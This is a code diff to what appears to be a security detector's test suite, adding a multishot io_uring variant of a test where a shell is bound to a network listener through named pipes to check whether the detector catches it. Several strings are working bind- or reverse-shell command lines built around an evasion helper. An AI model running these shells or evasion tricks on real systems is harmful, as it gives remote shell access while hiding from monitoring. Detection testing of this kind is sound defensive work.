@@ -44,7 +44,7 @@ NOTES_SH = "echo x > /tmp/notes; /usr/bin/cauditd_evade "
 FIFO_RELAY = ("mkfifo /tmp/in /tmp/out; {prog} < /tmp/in > /tmp/out &"
               f" /usr/bin/cauditd_evade fifo-relay /tmp/in /tmp/out {NOWHERE} 4445"
               " {how} < /dev/null > /dev/null")
-URING_LISTENER = ("mkfifo /tmp/f; /usr/bin/cauditd_evade uring-accept 4448 < /tmp/f"
+URING_LISTENER = ("mkfifo /tmp/f; /usr/bin/cauditd_evade uring-accept 4448 {how} < /tmp/f"
                   " | {prog} > /tmp/f")
 FIXED_ACCEPT = "echo | /usr/bin/cauditd_evade uring-accept-fixed 4449 {dup} | /bin/cat"
 READ_HOSTNAME = "/usr/bin/cauditd_evade read /etc/hostname"
@@ -279,9 +279,11 @@ EVASIONS = [
             sh(FIFO_LISTENER.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
             sh(FIFO_LISTENER.format(prog="/bin/cat")), exec_asked("/bin/cat")),
     # ... whose relay accepts through an io_uring ring (IORING_OP_ACCEPT), not accept()
-    Evasion("bind-shell-accepting-through-io-uring", "Reverse shell through pipes",
-            sh(URING_LISTENER.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
-            sh(URING_LISTENER.format(prog="/bin/cat")), exec_asked("/bin/cat")),
+    # ... with one multishot request, whose completions the kernel posts without the request
+    *(Evasion(f"bind-shell-accepting-through-io-uring{suffix}", "Reverse shell through pipes",
+              sh(URING_LISTENER.format(prog="/bin/sh", how=how)), "container.image", TEST_IMAGE,
+              sh(URING_LISTENER.format(prog="/bin/cat", how=how)), exec_asked("/bin/cat"))
+      for how, suffix in (("once", ""), ("multishot", "-multishot"))),
     # a reverse shell's dup onto stdio after a ring accept into the fixed-file table whose slot
     # number is the shell connection's fd (piped, so that its accepts are followed): the slot
     # must not be taken for an fd, or the connection would pass for a server's end
